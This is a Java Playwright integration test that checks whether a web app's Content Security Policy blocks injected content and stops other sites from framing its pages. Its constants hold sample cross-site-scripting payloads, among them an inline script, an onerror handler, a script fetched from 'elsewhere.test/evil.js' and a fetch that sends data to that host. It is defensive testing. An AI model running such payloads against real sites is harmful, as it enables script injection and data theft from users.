package org.gloss.journey;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What gets into a page cannot run there. That no page needs what its policy forbids, every
/// journey sees to: see [Visitor#close].
@OnStage
class PolicyIT {

  private static final String INLINE =
      "() => { const script = document.createElement('script');"
          + " script.textContent = 'window.injected = true'; document.body.append(script); }";
  private static final String HANDLER =
      "() => document.body.insertAdjacentHTML('beforeend',"
          + " '<img src=\"none:\" onerror=\"window.injected = true\">')";
  private static final String FOREIGN =
      "() => { const script = document.createElement('script');"
          + " script.src = 'http://elsewhere.test/evil.js'; document.body.append(script); }";
  private static final String ADDRESS = "() => { window.location = 'javascript:injected = true'; }";
  private static final String SENT =
      "() => fetch('http://elsewhere.test/?all').catch(() => undefined)";
  private static final String FRAME =
      "() => { const frame = document.createElement('iframe');"
          + " frame.src = 'http://elsewhere.test/'; document.body.append(frame); }";

  @ParameterizedTest
  @ValueSource(strings = {INLINE, HANDLER, FOREIGN, ADDRESS, SENT, FRAME})
  void whatIsPutIntoAPageDoesNotRunAndGoesNowhere(String attack, Stage stage) {
    try (Visitor visitor = stage.visit(Device.DESKTOP).go("join")) {
      Page page = visitor.page();
      page.locator("#join").waitFor();

      page.evaluate(attack);

      page.waitForCondition(() -> !visitor.refused().isEmpty());
      assertThat(page.evaluate("() => window.injected")).isNull();
      visitor.refused().clear();
    }
  }

  @Test
  void noOtherSiteShowsAPageInAFrame(Stage stage) {
    try (Visitor visitor = stage.visit(Device.DESKTOP)) {
      Page page = visitor.page();

      page.setContent("<iframe src='" + stage.server().address() + "join'></iframe>");

      page.waitForCondition(() -> !visitor.refused().isEmpty());
      assertThat(page.frames().getLast().locator("#join").count()).isZero();
      visitor.refused().clear();
    }
  }
}
